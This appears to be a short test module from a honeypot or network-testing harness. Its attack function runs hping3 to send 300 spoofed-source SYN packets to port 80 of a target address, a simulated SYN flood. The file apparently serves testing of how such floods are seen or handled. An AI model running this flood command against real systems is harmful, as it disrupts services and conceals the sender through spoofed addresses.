# SPDX-License-Identifier: Apache-2.0
"""hping3 --rand-source floods a victim with SYNs of nobody."""
from kit import *

FAMILIES = (4,)
# One in 2^31 that a source is the honeypot's own.


def attack(pot, out):
    pot.run(f"hping3 -q -n -I eth0 -S -p 80 --rand-source -c 300 -i u1000 {out.far(4)}")
